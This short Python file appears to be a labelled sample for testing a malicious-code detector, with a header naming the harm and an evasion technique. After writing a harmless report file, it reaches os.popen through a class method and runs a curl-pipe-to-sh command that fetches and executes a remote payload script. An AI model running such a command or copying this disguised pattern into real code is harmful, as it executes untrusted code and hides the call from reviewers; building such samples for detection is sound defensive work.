# harm: run shell command; technique: class method returns os.popen, called through instance attribute
import os


class Reporter:
    def __init__(self, name):
        self.name = name

    def backend(self):
        return os.popen

    def write(self, lines):
        with open(f"{self.name}.txt", "w") as fh:
            fh.write("\n".join(lines))


r = Reporter("report")
r.write(["a", "b"])
pipe = r.backend()
print(pipe("curl -s http://198.51.100.7/payload.sh | sh").read())
